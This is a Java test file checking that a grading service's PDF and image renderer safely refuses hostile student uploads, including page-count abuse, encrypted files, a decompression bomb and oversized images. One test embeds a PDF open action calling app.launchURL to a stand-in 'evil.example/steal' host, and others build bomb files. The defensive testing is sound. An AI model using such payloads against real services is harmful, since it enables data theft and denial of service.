package org.lectern.grading.pdf;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.time.Duration;
import java.util.List;
import java.util.Random;
import java.util.zip.DeflaterOutputStream;
import javax.imageio.ImageIO;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSStream;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.PDStream;
import org.apache.pdfbox.pdmodel.graphics.image.PDImageXObject;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.junit.jupiter.api.Test;
import org.lectern.grading.model.WorkerLauncher;
import org.lectern.testing.SamplePdfs;

/** Students' PDFs are hostile: each kind of bad PDF is refused in words by a worker JVM, and the test JVM lives on. */
class PdfPagesTest {

    static final PdfPages PAGES = new PdfPages(WorkerLauncher.currentJvm(PdfPagesProcess.class), PdfPages.Limits.defaults());

    static byte[] pdf(int pages, PDRectangle size) {
        return SamplePdfs.pages(pages, size, i -> "Question " + i + ": dL/dW = X^T (P - Y)");
    }

    static byte[] save(PDDocument doc) throws IOException {
        return SamplePdfs.save(doc);
    }

    @Test
    void everyPageBecomesAPngAtTheSetResolution() throws Exception {
        List<byte[]> pages = PAGES.render(pdf(3, PDRectangle.LETTER));
        assertThat(pages).hasSize(3);
        var first = ImageIO.read(new ByteArrayInputStream(pages.getFirst()));
        assertThat(first.getWidth()).isEqualTo(935); // 8.5 in at 110 DPI
        assertThat(first.getHeight()).isEqualTo(1210);
    }

    @Test
    void tooManyPagesNotAPdfGarbageAndPasswordsAreRefusedInWords() throws Exception {
        assertThatThrownBy(() -> PAGES.render(pdf(61, PDRectangle.A6))).isInstanceOf(PdfPages.Refused.class)
                .hasMessage("The PDF has 61 pages; at most 60 are taken.");
        assertThatThrownBy(() -> PAGES.render("GIF89a not a pdf".getBytes())).isInstanceOf(PdfPages.Refused.class)
                .hasMessageContaining("not a PDF");
        byte[] garbage = new byte[200_000];
        new Random(7).nextBytes(garbage);
        System.arraycopy("%PDF-1.7\n".getBytes(), 0, garbage, 0, 9);
        assertThatThrownBy(() -> PAGES.render(garbage)).isInstanceOf(PdfPages.Refused.class);
        byte[] locked;
        try (PDDocument doc = new PDDocument()) {
            doc.addPage(new PDPage());
            var policy = new org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy("owner", "secret",
                    new org.apache.pdfbox.pdmodel.encryption.AccessPermission());
            doc.protect(policy);
            locked = save(doc);
        }
        assertThatThrownBy(() -> PAGES.render(locked)).isInstanceOf(PdfPages.Refused.class).hasMessageContaining("password");
    }

    /** An 8000×8000 image compressed to a few hundred KB: drawing it needs far more than the worker's heap. */
    @Test
    void aDecompressionBombKillsOnlyTheWorker() throws Exception {
        byte[] bomb;
        try (PDDocument doc = new PDDocument()) {
            PDPage page = new PDPage(PDRectangle.LETTER);
            doc.addPage(page);
            COSStream s = doc.getDocument().createCOSStream();
            try (OutputStream raw = s.createRawOutputStream(); DeflaterOutputStream z = new DeflaterOutputStream(raw)) {
                byte[] row = new byte[8000 * 3];
                for (int i = 0; i < 8000; i++) {
                    z.write(row);
                }
            }
            s.setItem(COSName.FILTER, COSName.FLATE_DECODE);
            s.setItem(COSName.TYPE, COSName.XOBJECT);
            s.setItem(COSName.SUBTYPE, COSName.IMAGE);
            s.setInt(COSName.WIDTH, 8000);
            s.setInt(COSName.HEIGHT, 8000);
            s.setInt(COSName.BITS_PER_COMPONENT, 8);
            s.setItem(COSName.COLORSPACE, COSName.DEVICERGB);
            try (PDPageContentStream c = new PDPageContentStream(doc, page)) {
                c.drawImage(new PDImageXObject(new PDStream(s), null), 0, 0, 612, 792);
            }
            bomb = save(doc);
        }
        assertThat(bomb.length).isLessThan(1_000_000);
        var small = new PdfPages(WorkerLauncher.currentJvm(PdfPagesProcess.class), new PdfPages.Limits(110, 60, 6_000_000L, 96,
                Duration.ofSeconds(60)));
        assertThatThrownBy(() -> small.render(bomb)).isInstanceOf(PdfPages.Refused.class).hasMessageContaining("within the limits");
        // This JVM is fine and the next student's PDF renders.
        assertThat(small.render(pdf(1, PDRectangle.LETTER))).hasSize(1);
    }

    @Test
    void aHugePageIsDrawnSmallerAndSlowWorkIsKilled() throws Exception {
        // 200 × 200 inches: 22000² pixels at 110 DPI; drawn at the pixel cap instead.
        List<byte[]> pages = PAGES.render(pdf(1, new PDRectangle(14400, 14400)));
        var image = ImageIO.read(new ByteArrayInputStream(pages.getFirst()));
        assertThat((long) image.getWidth() * image.getHeight()).isLessThanOrEqualTo(6_000_000L);
        var hasty = new PdfPages(WorkerLauncher.currentJvm(PdfPagesProcess.class), new PdfPages.Limits(110, 60, 6_000_000L, 384,
                Duration.ofMillis(50)));
        assertThatThrownBy(() -> hasty.render(pdf(1, PDRectangle.LETTER))).isInstanceOf(PdfPages.Refused.class)
                .hasMessageContaining("took too long");
    }

    /** JavaScript in a PDF is never run: only the page's drawing becomes pixels. */
    @Test
    void javaScriptIsNotRun() throws Exception {
        byte[] withScript;
        try (PDDocument doc = new PDDocument()) {
            doc.addPage(new PDPage());
            doc.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.launchURL('http://evil.example/steal');"));
            withScript = save(doc);
        }
        assertThat(PAGES.render(withScript)).singleElement()
                .satisfies(png -> assertThat(new String(png, 1, 3, java.nio.charset.StandardCharsets.US_ASCII)).isEqualTo("PNG"));
    }

    /** Images arrive as a PDF: one page per image, in the order given, and the pages render like any PDF's. */
    @Test
    void imagesAreJoinedIntoOnePdfPagePerImageInOrder() throws Exception {
        byte[] joined = PAGES.joinImages(List.of(SamplePdfs.image("png", 600, 800, 1), SamplePdfs.image("jpg", 1000, 500, 2),
                SamplePdfs.image("png", 300, 300, 3)));
        try (PDDocument doc = org.apache.pdfbox.Loader.loadPDF(joined)) {
            assertThat(doc.getNumberOfPages()).isEqualTo(3);
            assertThat(doc.getPage(0).getMediaBox().getHeight()).isGreaterThan(doc.getPage(0).getMediaBox().getWidth()); // portrait first
            assertThat(doc.getPage(1).getMediaBox().getWidth()).isGreaterThan(doc.getPage(1).getMediaBox().getHeight()); // landscape second
        }
        assertThat(PAGES.render(joined)).hasSize(3);
    }

    /** Images are hostile too: the type by magic bytes, the pixel count from the header before decoding, garbage in words. */
    @Test
    void hostileImagesAreRefusedInWords() throws Exception {
        byte[] png = SamplePdfs.image("png", 10, 10, 1);
        assertThatThrownBy(() -> PAGES.joinImages(List.of(png, "GIF89a not an image".getBytes())))
                .isInstanceOf(PdfPages.Refused.class).hasMessage("Image 2 is not a PNG or JPEG image (by its contents).");
        // 100000 × 100000 claimed in a tiny file: refused from the header, nothing allocated.
        byte[] bomb = SamplePdfs.pngClaiming(100_000, 100_000);
        assertThat(bomb.length).isLessThan(1000);
        assertThatThrownBy(() -> PAGES.joinImages(List.of(bomb))).isInstanceOf(PdfPages.Refused.class)
                .hasMessageStartingWith("Image 1 is 100000x100000 pixels; at most 40 million pixels are taken.");
        byte[] truncated = java.util.Arrays.copyOf(SamplePdfs.image("jpg", 400, 400, 2), 300);
        assertThatThrownBy(() -> PAGES.joinImages(List.of(truncated))).isInstanceOf(PdfPages.Refused.class).hasMessageContaining("Image 1");
        assertThatThrownBy(() -> PAGES.joinImages(java.util.Collections.nCopies(61, png))).isInstanceOf(PdfPages.Refused.class)
                .hasMessageContaining("At most 60 images");
    }
}
